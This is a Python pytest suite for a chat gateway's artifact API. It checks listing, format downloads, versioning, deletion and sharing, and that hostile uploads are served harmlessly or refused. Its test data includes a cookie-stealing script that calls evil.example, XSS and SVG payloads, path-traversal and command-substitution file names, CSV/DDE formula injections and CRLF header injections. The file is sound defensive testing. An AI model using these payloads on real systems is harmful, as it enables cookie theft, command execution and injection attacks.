"""Artifacts over HTTP: listed, read, downloaded under headers of ours, revised and deleted by their owner."""

import asyncio
import csv
import hashlib
import io
import json
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import httpx
import pytest

from tests.gateway.api.test_keys import ADMIN, AUDIT
from tests.gateway.api.test_send_message import MESSAGES
from tests.gateway.api.test_sessions import SESSIONS
from tests.requirements import requirement
from tests.support.contents import BAR, CONTENTS, FILE, SUMMARY, TABLE, chart, posted
from tests.support.making_worker import add_maker
from tests.support.running_gateway import ALICE, BOB, RunningGateway, running_gateway

ARTIFACTS = "/api/v1/chat/artifacts"
HARMLESS = {
    "cache-control": "private, no-store",
    "content-security-policy": "sandbox; default-src 'none'",
    "cross-origin-resource-policy": "same-origin",
    "referrer-policy": "no-referrer",
    "x-content-type-options": "nosniff",
}
HTML = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><script>alert(1)</script></foreignObject></svg>'
# What somebody could want a browser to take for something else: a name, and what is in it.
HOSTILE = [
    *(
        (f"a.{end}", HTML)
        for end in ("html", "htm", "HTML", "xhtml", "shtml", "mht", "hta", "txt", "md", "csv", "json")
    ),
    *((f"a.{end}", SVG) for end in ("svg", "svgz", "xml", "xsl", "png", "gif", "pdf")),
    *((f"a.{end}", "alert(1)") for end in ("js", "mjs", "wasm", "swf", "jar", "exe", "bat", "lnk", "url", "desktop")),
    ("a.html;.txt", HTML),
    ("a.html%00.txt", HTML),
    ("a.txt\u202ethml.exe", HTML),
    ("../../etc/passwd", HTML),
    ("..\\..\\boot.ini", HTML),
    ("/etc/passwd.txt", HTML),
    ("C:\\x.txt", HTML),
    ("con.txt", HTML),
    (".htaccess", HTML),
    ('a".html', HTML),
    ("a\r\nx-injected: 1.txt", HTML),
    ("a\nSet-Cookie: b=c", HTML),
    ("ünïcödé 漢字 😀.txt", HTML),
    ("a" * 255, HTML),
    ("%2e%2e%2fx.txt", HTML),
    ("$(reboot).txt", HTML),
    ("`reboot`.csv", HTML),
    ("=cmd|' /C calc'!A0.csv", HTML),
    ("\u200b.txt", HTML),
    ("   .txt", HTML),
    ("....", HTML),
]
DISPOSITION = re.compile(r"""attachment; filename="(?P<plain>[^"]+)"(?:; filename\*=UTF-8''(?P<extended>[\w.~%-]+))?""")
SERVED = {
    "text/plain; charset=utf-8",
    "text/csv; charset=utf-8",
    "text/markdown; charset=utf-8",
    "application/json",
    "application/octet-stream",
}


async def ask(client: httpx.AsyncClient, **body: Any) -> tuple[str, str]:
    """Ask; session and turn."""
    answer = await client.post(MESSAGES, json={"message": "make it", **body})
    assert answer.status_code == 200, answer.text
    assert '"type":"finish"' in answer.text, answer.text
    return answer.headers["x-chat-session-id"], answer.headers["x-chat-turn-id"]


async def made(client: httpx.AsyncClient, session_id: str, **query: Any) -> list[dict[str, Any]]:
    """The artifacts of a session."""
    answer = await client.get(ARTIFACTS, params={"session_id": session_id, **query})
    assert answer.status_code == 200, answer.text
    found: list[dict[str, Any]] = answer.json()["artifacts"]
    return found


def content_of(artifact: dict[str, Any], version: int = 1) -> str:
    """Where its bytes are."""
    return f"{ARTIFACTS}/{artifact['id']}/versions/{version}/content"


def file_name_of(response: httpx.Response) -> str:
    """The name under which a browser would save it."""
    found = DISPOSITION.fullmatch(response.headers["content-disposition"])
    assert found is not None, response.headers["content-disposition"]
    # Browsers prefer the one that is not only ASCII (RFC 6266).
    return found["plain"] if found["extended"] is None else unquote(found["extended"])


@requirement("artifact")
async def test_what_a_turn_made_is_listed_and_read(gateway: RunningGateway, alice: httpx.AsyncClient) -> None:
    await add_maker(gateway, *(posted(content, title=f"About {kind}") for kind, content in CONTENTS.items()))
    session_id, turn_id = await ask(alice)
    await ask(alice, session_id=session_id)

    artifacts = await made(alice, session_id, turn_id=turn_id)

    assert [artifact["kind"] for artifact in artifacts] == list(CONTENTS)
    assert len(await made(alice, session_id)) == 2 * len(CONTENTS)
    assert [a["kind"] for a in await made(alice, session_id, kind="table")] == ["table", "table"]
    for artifact in artifacts:
        one = await alice.get(f"{ARTIFACTS}/{artifact['id']}")
        stored = await alice.get(content_of(artifact))
        latest = artifact["latest"]
        assert one.json() == artifact
        assert latest["sha256"] == hashlib.sha256(stored.content).hexdigest()
        assert latest["bytes"] == len(stored.content) == int(stored.headers["content-length"])
        assert (latest["version"], latest["made_by"]) == (1, "crew")
        assert latest["title"] == f"About {artifact['kind']}"
        assert {name: stored.headers[name] for name in HARMLESS} == HARMLESS
        assert "store-" not in one.text


async def test_a_list_is_read_page_by_page(gateway: RunningGateway, alice: httpx.AsyncClient) -> None:
    await add_maker(gateway, *(posted(SUMMARY, title=f"{number}") for number in range(5)))
    session_id, _ = await ask(alice)
    query: dict[str, Any] = {"session_id": session_id, "limit": 2}
    titles, after = [], None
    while True:
        page = (await alice.get(ARTIFACTS, params=query | ({"after": after} if after else {}))).json()
        titles += [artifact["latest"]["title"] for artifact in page["artifacts"]]
        after = page["after"]
        if after is None:
            break

    wrong = await alice.get(ARTIFACTS, params={**query, "after": "!"})
    newest = (await alice.get(ARTIFACTS, params={"limit": 4})).json()
    rest = (await alice.get(ARTIFACTS, params={"after": newest["after"]})).json()
    all_of_hers = [artifact["latest"]["title"] for artifact in (*newest["artifacts"], *rest["artifacts"])]
    assert (all_of_hers, rest["after"]) == (["4", "3", "2", "1", "0"], None)
    assert titles == ["0", "1", "2", "3", "4"]
    assert (wrong.status_code, wrong.json()["code"]) == (400, "invalid_cursor")


@requirement("artifact")
@pytest.mark.parametrize(
    ("content", "wanted", "media_type", "name", "begins"),
    [
        (BAR, None, "application/json", "Week 44.json", b'{"$schema":'),
        (BAR, "json", "application/json", "Week 44.json", b'{"$schema":'),
        (BAR, "csv", "text/csv; charset=utf-8", "Week 44.csv", b"\xef\xbb\xbfChannel,Interactions\r\nweb,1500\r\n"),
        (TABLE, None, "application/json", "Week 44.json", b'{"columns":'),
        (TABLE, "csv", "text/csv; charset=utf-8", "Week 44.csv", b"\xef\xbb\xbfProduct,Price\r\nShirt,19.5\r\n'=SUM"),
        (SUMMARY, "md", "text/markdown; charset=utf-8", "Week 44.md", b"# Week 44\n\n"),
        (FILE, "file", "text/plain; charset=utf-8", "notes.txt", b"one\ntwo\n"),
    ],
)
async def test_each_kind_is_had_in_its_formats(
    gateway: RunningGateway,
    alice: httpx.AsyncClient,
    content: dict[str, Any],
    wanted: str | None,
    media_type: str,
    name: str,
    begins: bytes,
) -> None:
    await add_maker(gateway, posted(content, title="Week 44"))
    (artifact,) = await made(alice, (await ask(alice))[0])

    answer = await alice.get(content_of(artifact), params={"format": wanted} if wanted else {})
    head = await alice.head(content_of(artifact), params={"format": wanted} if wanted else {})

    assert (answer.status_code, answer.headers["content-type"]) == (200, media_type)
    assert answer.content.startswith(begins)
    assert file_name_of(answer) == name
    assert {name: answer.headers[name] for name in HARMLESS} == HARMLESS
    assert (head.status_code, head.content) == (200, b"")
    assert head.headers["content-length"] == str(len(answer.content))


@pytest.mark.parametrize(
    ("content", "wanted", "allowed"),
    [(TABLE, "png", ["json", "csv"]), (SUMMARY, "json", ["md"]), (FILE, "csv", ["file"]), (BAR, "image", None)],
)
async def test_a_format_that_a_kind_does_not_have_is_refused_by_name(
    gateway: RunningGateway, alice: httpx.AsyncClient, content: dict[str, Any], wanted: str, allowed: list[str] | None
) -> None:
    await add_maker(gateway, posted(content))
    (artifact,) = await made(alice, (await ask(alice))[0])

    answer = await alice.get(content_of(artifact), params={"format": wanted})
    unknown = await alice.get(content_of(artifact), params={"format": "exe"})

    assert (answer.status_code, answer.json()["code"]) == (422, "format_unavailable")
    assert answer.json()["allowed"] == (allowed or artifact["formats"])
    assert (unknown.status_code, unknown.json()["code"]) == (422, "invalid_request")


@requirement("safe-bytes")
async def test_no_file_is_served_as_anything_that_a_browser_runs(tmp_path: Path) -> None:
    async with running_gateway(tmp_path, artifacts_per_turn=len(HOSTILE)) as gateway:
        files = [posted({"kind": "file", "file_name": name, "content": text}) for name, text in HOSTILE]
        await add_maker(gateway, *files)
        alice = await gateway.client()
        artifacts = await made(alice, (await ask(alice))[0])
        served = [(await alice.get(content_of(artifact)), artifact) for artifact in artifacts]

    assert len(served) == len(HOSTILE)
    for (name, text), (answer, artifact) in zip(HOSTILE, served, strict=True):
        saved = file_name_of(answer)
        assert answer.content == text.encode(), name
        assert answer.headers["content-type"] in SERVED, name
        assert {header: answer.headers[header] for header in HARMLESS} == HARMLESS, name
        assert answer.headers["content-disposition"].startswith('attachment; filename="'), name
        assert answer.headers["content-disposition"].isascii()
        assert not {"x-injected", "set-cookie"} & set(answer.headers), name
        assert saved.rpartition(".")[2] in {"txt", "csv", "md", "json", "bin"}, saved
        assert not set(saved) & set('/\\:*?"<>|;%\r\n\u202e\u200b'), saved
        assert not saved.startswith((".", "con.", " ")), saved
        assert artifact["latest"]["file_name"] == name


@requirement("safe-bytes")
async def test_no_name_becomes_a_path(gateway: RunningGateway, alice: httpx.AsyncClient, tmp_path: Path) -> None:
    names = ["../../../../x.txt", "/x.txt", "..", "a/../../b.txt", "C:\\x"]
    await add_maker(gateway, *(posted({**FILE, "file_name": name}, title=name) for name in names))
    await ask(alice)

    folder = gateway.settings.objects_folder
    outside = {path.name for path in below(tmp_path) if path.is_file() and not path.is_relative_to(folder)}
    assert outside <= {"gateway.db", "gateway.db-wal", "gateway.db-shm", "ballast", "local.key"} | {
        name for name in outside if name.endswith(".lock")
    }


def below(folder: Path) -> list[Path]:
    """All files and folders in a folder."""
    return sorted(folder.rglob("*"))


@requirement("artifact")
async def test_the_owner_adds_versions_and_the_earlier_ones_stay(
    gateway: RunningGateway, alice: httpx.AsyncClient
) -> None:
    await add_maker(gateway, posted(TABLE, title="First"))
    (artifact,) = await made(alice, (await ask(alice))[0])
    before = (await alice.get(content_of(artifact))).content
    longer = {"kind": "table", "table": {"columns": [{"label": "A"}], "rows": [["x"], ["y"]]}}

    revised = await alice.post(f"{ARTIFACTS}/{artifact['id']}/versions", json=posted(longer, title="Second"))
    versions = (await alice.get(f"{ARTIFACTS}/{artifact['id']}/versions")).json()["versions"]

    assert revised.status_code == 201
    assert revised.json() == {**artifact, "latest": versions[1]}
    assert versions[0] == artifact["latest"]
    assert [(each["version"], each["title"], each["made_by"]) for each in versions] == [
        (1, "First", "crew"),
        (2, "Second", "user"),
    ]
    assert (await alice.get(content_of(artifact))).content == before
    assert b'"y"' in (await alice.get(content_of(artifact, 2))).content
    for version in (0, 3, "01", "x", "-1", "1e3", 10**12, "%00"):
        missing = await alice.get(f"{ARTIFACTS}/{artifact['id']}/versions/{version}/content")
        assert (missing.status_code, missing.json()["code"]) == (404, "not_found"), version


@requirement("closed-charts")
@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        (posted(SUMMARY), 409, "kind_differs"),
        (posted(chart(url="http://192.0.2.1/")), 422, "invalid_request"),
        ({**posted(BAR), "made_by": "crew"}, 422, "invalid_request"),
        ({**posted(BAR), "artifact_id": "art_other"}, 422, "invalid_request"),
        (posted({"kind": "image", "url": "http://192.0.2.1/"}), 422, "invalid_request"),
        ({**posted(BAR), "title": True}, 422, "invalid_request"),
        ({}, 422, "invalid_request"),
        (posted({**FILE, "content": "x" * 3_000_000}), 413, "artifact_too_large"),
        (posted({**FILE, "content": "x" * 7_000_000}), 413, "content_too_large"),
        (posted({**FILE, "content": "?", "encoding": "base64"}), 422, "content_refused"),
        (posted(chart(y_label=None)), 422, "content_refused"),
        (posted(chart(y_label=None, url="x")), 422, "invalid_request"),
    ],
    ids=lambda value: value if isinstance(value, str) else None,
)
async def test_a_version_that_is_none_is_refused(
    gateway: RunningGateway, alice: httpx.AsyncClient, body: dict[str, Any], status: int, code: str
) -> None:
    await add_maker(gateway, posted(BAR))
    (artifact,) = await made(alice, (await ask(alice))[0])

    answer = await alice.post(f"{ARTIFACTS}/{artifact['id']}/versions", json=body)

    assert (answer.status_code, answer.json()["code"]) == (status, code)
    assert len((await alice.get(f"{ARTIFACTS}/{artifact['id']}/versions")).json()["versions"]) == 1


def table(*cells: Any, label: Any = "a") -> dict[str, Any]:
    """A table of one column."""
    return {"kind": "table", "table": {"columns": [{"label": label}], "rows": [[cell] for cell in cells]}}


FORMULAS = (
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\uff1d1",
    '=HYPERLINK("http://192.0.2.1")',
)
EXPRESSIONS = ("datum.x", "${x}", "{{x}}", "{expr: 'now()'}", "javascript:alert(1)", "<img src=x onerror=alert(1)>")
FOREIGN = "http://192.0.2.1/x"
# What nobody sends by mistake, and its answer.
SENT: list[tuple[Any, int]] = [
    *((posted(table(formula, label=formula.strip()), title="t"), 201) for formula in FORMULAS),
    *((posted(table(text, label=text), title=text), 201) for text in EXPRESSIONS),
    (posted(table("a"), title="\u202etxt.exe\u2066"), 201),
    (posted(table("a"), title="../../etc/passwd"), 201),
    (posted(table("a"), title="con"), 201),
    (posted(table("\U0001f4a9 \u0301 \u200b"), title="\u0301\u200b"), 201),
    (posted(table("a"), title="a" * 200), 201),
    (posted(table("a"), title="a" * 300), 422),
    (posted(table("a"), title="a\r\nSet-Cookie: b=c"), 422),
    (posted(table("a"), title="a\u2028b"), 422),
    (posted(table("a"), title="a\0b"), 422),
    (posted(table("a"), title="\ud800"), 422),
    (posted(table("a\0")), 422),
    (posted(table("\ud800")), 422),
    (posted(table("a", label="\udc00")), 422),
    (posted(table("a", label="a" * 300)), 422),
    (posted(table({"url": FOREIGN})), 422),
    (posted(table(10**400)), 422),
    (posted(table(float("nan"))), 422),
    (posted(table(float("inf"))), 422),
    (posted({**table("a"), "url": FOREIGN}), 422),
    (posted({"kind": "table", "table": FOREIGN}), 422),
    (posted({"kind": "table", "table": {"columns": [{"label": "a"}], "rows": {"url": FOREIGN}}}), 422),
    (posted(chart(data={"url": FOREIGN})), 422),
    (posted(chart(x_label={"expr": "1"})), 422),
    (posted({**FILE, "file_name": "a" * 300}), 422),
    (posted({**FILE, "file_name": "a\0.txt"}), 422),
    (posted({**FILE, "file_name": "\ud800.txt"}), 422),
    (posted({**FILE, "content": "\ud800"}), 422),
    (b'{"title":' + b"[" * 50_000, 422),
    (b'{"title":"t","content":{"kind":"table","table":{"columns":[{"label":"a"}],"rows":[[1e999]]}}}', 422),
    (b"\xef\xbb\xbf{}", 422),
    (b"\xff", 422),
]


@requirement("closed-charts", "safe-bytes")
async def test_every_hostile_version_has_its_answer_and_what_is_taken_is_harmless(tmp_path: Path) -> None:
    async with running_gateway(tmp_path) as gateway:
        await add_maker(gateway, posted(TABLE))
        alice = await gateway.client()
        (artifact,) = await made(alice, (await ask(alice))[0])
        address = f"{ARTIFACTS}/{artifact['id']}/versions"
        wrong: list[str] = []
        saved: list[httpx.Response] = []
        for asked, status in SENT:
            raw = asked if isinstance(asked, bytes) else json.dumps(asked).encode()
            answer = await alice.post(address, content=raw, headers={"content-type": "application/json"})
            if answer.status_code != status:
                wrong.append(f"{raw[:120]!r}: {answer.status_code} {answer.text[:200]}")
            if answer.status_code == 201:
                content = content_of(artifact, answer.json()["latest"]["version"])
                saved += [await alice.get(content, params={"format": wanted}) for wanted in ("json", "csv")]

    assert wrong == []
    assert [answer.status_code for answer in saved] == [200] * 2 * sum(status == 201 for _, status in SENT)
    for answer in saved:
        name = file_name_of(answer)
        assert {header: answer.headers[header] for header in HARMLESS} == HARMLESS
        assert not set(name) & set('/\\:*?"<>|;%\r\n\u202e\u2066\u200b'), name
        assert len(name.encode()) < 130
        assert not name.startswith(("con.", "."))
        if answer.headers["content-type"].startswith("text/csv"):
            cells = [cell for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))) for cell in row]
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) for cell in cells), cells


async def test_what_is_deleted_is_gone_with_its_bytes(gateway: RunningGateway, alice: httpx.AsyncClient) -> None:
    await add_maker(gateway, posted(SUMMARY), posted(BAR))
    session_id, _ = await ask(alice)
    first, second = await made(alice, session_id)

    deleted = await alice.delete(f"{ARTIFACTS}/{first['id']}")
    again = await alice.delete(f"{ARTIFACTS}/{first['id']}")
    gone = await alice.get(content_of(first))

    assert (deleted.status_code, again.status_code, gone.status_code) == (204, 404, 404)
    assert again.content == gone.content
    assert await made(alice, session_id) == [second]
    audit = await (await gateway.client(ADMIN)).get(AUDIT)
    noted = [entry for entry in audit.json()["entries"] if entry["action"] == "artifact.deleted"]
    assert [(entry["object_id"], entry["user_id"]) for entry in noted] == [(first["id"], ALICE.user_id)]
    await alice.delete(f"{SESSIONS}/{session_id}")
    assert (await alice.get(content_of(second))).status_code == 404


async def test_a_colleague_reads_what_is_shown_and_changes_nothing(
    gateway: RunningGateway, alice: httpx.AsyncClient
) -> None:
    bob = await gateway.client(BOB)
    await add_maker(gateway, posted(SUMMARY))
    session_id, _ = await ask(alice)
    (artifact,) = await made(alice, session_id)
    hidden = await bob.get(content_of(artifact))
    await alice.patch(f"{SESSIONS}/{session_id}", json={"visibility": "organization"})

    assert await made(bob, session_id) == [artifact]
    assert (await bob.get(content_of(artifact))).content == SUMMARY["text"].encode()
    assert (await bob.get(f"{ARTIFACTS}/{artifact['id']}/versions")).status_code == 200
    assert (await bob.delete(f"{ARTIFACTS}/{artifact['id']}")).content == hidden.content
    revised = await bob.post(f"{ARTIFACTS}/{artifact['id']}/versions", json=posted(SUMMARY))
    assert revised.content == hidden.content


async def test_there_are_no_links_where_nothing_gives_them(gateway: RunningGateway, alice: httpx.AsyncClient) -> None:
    await add_maker(gateway, posted(SUMMARY))
    (artifact,) = await made(alice, (await ask(alice))[0])

    answer = await alice.get(f"{ARTIFACTS}/{artifact['id']}/versions/1/link")

    assert (answer.status_code, answer.json()["code"]) == (409, "links_off")


async def stored(gateway: RunningGateway) -> Path:
    """The file of the one artifact, once its bytes are there and let go of in the database."""
    while True:
        with closing(sqlite3.connect(gateway.database_file)) as database:
            ((waiting,),) = database.execute("SELECT count(*) FROM object_outbox").fetchall()
        if not waiting:
            break
        await asyncio.sleep(0.01)
    (file,) = [path for path in below(gateway.settings.objects_folder) if path.is_file()]
    return file


@requirement("safe-bytes")
@pytest.mark.parametrize("spoil", ["changed", "longer", "shorter", "missing"])
async def test_bytes_that_are_not_those_that_were_stored_are_not_given_as_if_they_were(
    gateway: RunningGateway, alice: httpx.AsyncClient, spoil: str
) -> None:
    await add_maker(gateway, posted({**FILE, "content": "x" * 200_000}))
    (artifact,) = await made(alice, (await ask(alice))[0])
    file = await stored(gateway)
    match spoil:
        case "changed":
            file.write_bytes(b"x" * 199_999 + b"y")
        case "longer":
            file.write_bytes(b"x" * 200_001)
        case "shorter":
            file.write_bytes(b"x" * 100_000)
        case _:
            file.unlink()

    if spoil == "missing":
        answer = await alice.get(content_of(artifact))
        assert (answer.status_code, answer.json()["code"]) == (500, "artifact_lost")
    else:
        with pytest.raises(httpx.RemoteProtocolError):
            await alice.get(content_of(artifact))


async def test_a_chart_is_a_specification_that_names_nothing_outside(
    gateway: RunningGateway, alice: httpx.AsyncClient
) -> None:
    await add_maker(
        gateway, posted(chart(x_label="http://evil.example/", points=[{"x": "file:///etc/passwd", "y": 1}]))
    )
    (artifact,) = await made(alice, (await ask(alice))[0])

    specification = json.loads((await alice.get(content_of(artifact))).content)

    assert set(specification) == {"$schema", "title", "width", "height", "data", "mark", "encoding"}
    assert set(specification["data"]) == {"values"}
